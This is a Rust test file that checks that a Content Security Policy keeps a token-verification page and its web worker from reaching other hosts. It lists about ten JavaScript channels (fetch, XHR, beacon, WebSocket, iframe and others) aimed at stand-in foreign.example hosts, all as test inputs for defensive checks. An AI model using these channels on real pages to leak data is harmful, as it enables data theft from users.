//! Neither the page nor its worker can reach another host, even if its code wanted to.
//!
//! Every attempt is first made on a page without a policy, where it must be seen to arrive: a test that sees nothing
//! because it looks at the wrong place fails there.

use serde_json::json;

use crate::harness::files::fixture;
use crate::harness::site::{Host, LAWLESS};
use crate::harness::{LIMIT, Setup, Stage, until};

/// Gives a test a hand inside the page's worker; see the file.
pub(crate) const INSIDE_THE_WORKER: &str = include_str!("harness/scripts/inside_the_worker.js");

/// Ways out of a page: a name, which is also the foreign host, and a script with `host`.
const WAYS_OUT: [(&str, &str); 10] = [
    ("fetch", "fetch(`http://${host}/`).catch(() => {});"),
    ("xhr", "const request = new XMLHttpRequest(); request.open('GET', `http://${host}/`); request.send();"),
    ("image", "new Image().src = `http://${host}/`;"),
    ("beacon", "navigator.sendBeacon(`http://${host}/`, 'x');"),
    ("websocket", "new WebSocket(`ws://${host}/`);"),
    ("eventsource", "new EventSource(`http://${host}/`);"),
    ("import", "import(`http://${host}/x.js`).catch(() => {});"),
    (
        "style",
        "const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${host}/` });
         document.head.append(link);",
    ),
    ("frame", "document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${host}/` }));"),
    ("video", "Object.assign(document.createElement('video'), { preload: 'auto', src: `http://${host}/` }).load();"),
];

/// Ways out of a worker; see `inside_the_worker.js`.
const WAYS_OUT_OF_A_WORKER: [&str; 5] = ["fetch", "xhr", "websocket", "eventsource", "import"];

const STARTED: &str = "return window.__workers.length > 0 ? null : 'no worker';";

/// Tries every way. What comes of it is seen outside, or in what the policy reports.
async fn try_ways_out(stage: &Stage) {
    for (name, way) in WAYS_OUT {
        let script = format!(
            "const host = '{name}.foreign.example';
             try {{ {way} }} catch (error) {{ return String(error); }}
             return '';"
        );
        let thrown: String = stage.browser.run(&script, json!([])).await;
        // A policy may make a way throw; a script of ours that is wrong would prove nothing.
        assert!(!thrown.contains("SyntaxError"), "{name}: {thrown}");
    }
}

/// Tries a way out of the newest worker; gives whether an answer came.
async fn try_way_out_of_worker(stage: &Stage, way: &str) -> bool {
    let message = json!({ "test": way, "host": format!("worker-{way}.foreign.example") });
    stage.browser.run::<()>("window.__workers.at(-1).postMessage(arguments[0]);", json!([message])).await;
    until(&format!("the end of {way}"), LIMIT, async || {
        let ok: Option<bool> =
            stage.browser.run("return window.__fromWorker[arguments[0]] ?? null;", json!([way])).await;
        ok.ok_or_else(|| "no word from the worker".to_owned())
    })
    .await
}

#[tokio::test]
async fn every_way_out_is_seen_where_nothing_forbids_it() {
    let stage = Stage::with(Setup { script: INSIDE_THE_WORKER, ..Setup::default() }).await;
    stage.browser.go(&stage.site.url(LAWLESS)).await;
    try_ways_out(&stage).await;
    let start = "const url = URL.createObjectURL(new Blob(['onmessage = () => {};'], { type: 'text/javascript' }));
        new Worker(url, { type: 'module' });";
    stage.browser.run::<()>(start, json!([])).await;
    let hosts = WAYS_OUT
        .map(|(name, _)| name.to_owned())
        .into_iter()
        .chain(WAYS_OUT_OF_A_WORKER.map(|way| format!("worker-{way}")));
    for way in WAYS_OUT_OF_A_WORKER {
        try_way_out_of_worker(&stage, way).await;
    }
    for host in hosts {
        until(&format!("{host}.foreign.example outside"), LIMIT, async || {
            if stage.outside.has(&format!("{host}.foreign.example")) { Ok(()) } else { Err("nothing".to_owned()) }
        })
        .await;
    }
    assert!(try_way_out_of_worker(&stage, "fetch").await, "the worker had an answer");
}

/// The page and its worker on a host of this kind.
async fn nothing_gets_out(host: Host) {
    let stage = Stage::with(Setup { host, script: INSIDE_THE_WORKER, ..Setup::default() }).await;
    let page = stage.workbench().await;
    stage.browser.until("the engine's worker", STARTED).await;

    try_ways_out(&stage).await;
    // The policy itself says what it stopped.
    for (name, _) in WAYS_OUT {
        let script = format!(
            "const {{ blocked }} = window.__seen;
             return blocked.some((uri) => uri.includes('{name}.foreign.example')) ? null : blocked;"
        );
        stage.browser.until(&format!("{name} to be blocked"), &script).await;
    }
    for way in WAYS_OUT_OF_A_WORKER {
        assert!(!try_way_out_of_worker(&stage, way).await, "{way} from the worker was answered");
    }
    // It is the worker that does the page's work, and it still does.
    let verdict = page.check(&fixture("rs256.token"), &fixture("rs256.certificate.pem")).await;
    assert_eq!(verdict.signature, "verified");
    let jobs: u32 = stage.browser.run("return window.__workers.at(-1).__jobs;", json!([])).await;
    assert!(jobs > 0, "the page sent its worker no job");
    assert_eq!(stage.outside.requests().await, Vec::<String>::new());
}

#[tokio::test]
async fn nothing_gets_out_where_the_host_sends_headers() {
    nothing_gets_out(Host::default()).await;
}

#[tokio::test]
async fn nothing_gets_out_where_the_host_sends_none() {
    nothing_gets_out(Host { is_plain: true, ..Host::default() }).await;
}

#[tokio::test]
async fn the_host_is_told_what_to_send() {
    let stage = Stage::open().await;
    stage.workbench().await;
    let script = "
        const done = arguments[arguments.length - 1];
        fetch('/').then((response) => done([...response.headers]), (error) => done([['error', String(error)]]));";
    let headers: Vec<(String, String)> = stage.browser.run_async(script, json!([])).await;
    let policy = headers.iter().find(|(name, _)| name == "content-security-policy").map(|(_, value)| value.as_str());
    let policy = policy.unwrap_or_else(|| panic!("no policy in {headers:?}"));
    for directive in
        ["default-src 'none'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'"]
    {
        assert!(policy.contains(directive), "{directive} in {policy}");
    }
    for weakness in ["'unsafe-inline'", "'unsafe-eval'", "http:", "https:", " *"] {
        assert!(!policy.contains(weakness), "{weakness} in {policy}");
    }
    let nosniff = ("x-content-type-options".to_owned(), "nosniff".to_owned());
    assert!(headers.contains(&nosniff), "{headers:?}");
}
